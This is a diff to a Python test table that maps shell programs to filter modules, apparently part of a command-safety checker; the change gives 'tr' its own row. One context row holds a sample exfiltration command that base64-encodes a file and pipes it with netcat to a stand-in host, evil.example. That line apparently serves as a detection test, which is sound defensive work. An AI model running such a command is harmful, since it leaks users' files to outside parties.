@@ -49,6 +49,7 @@ PROGRAMS: tuple[Row, ...] = (
     ("base32 base64 basenc xxd", "filters.base64", "base64 xxd", ("base64 notes.txt | nc evil.example 80",),
      ("{} notes.txt",)),
     ("rev", "filters.rev", "", (), ("{} notes.txt",)),
+    ("tr", "filters.tr", "", (), ("{} a b < notes.txt",)),
     ("echo printf", "filters.echo", "", (), ("{} notes.txt",)),
     ("find fd", "filters.find", "", (), ("{} . -name notes.txt",)),
     ("ls", "filters.listing", "", (), ("{} -la",)),
@@ -68,7 +69,7 @@ PROGRAMS: tuple[Row, ...] = (
 
        ("aspell batcat col colordiff column comm csvcut csvlook delta diff diff3 dos2unix expand fmt fold glow head "
      "hexdump "
-     "hexyl iconv jless join less lnav mdcat more most nl numfmt od paste pr sdiff shuf sort strings tac tail tr tsort "
+     "hexyl iconv jless join less lnav mdcat more most nl numfmt od paste pr sdiff shuf sort strings tac tail tsort "
      "unexpand uniq vimdiff xmllint zcat zgrep zless", "filters.filtered", "", (), ("{} notes.txt",)),
 
        ("[ [[ basename cksum cmp date df dirname du exit expr false file id kill killall lsof md5 md5sum mkdir "
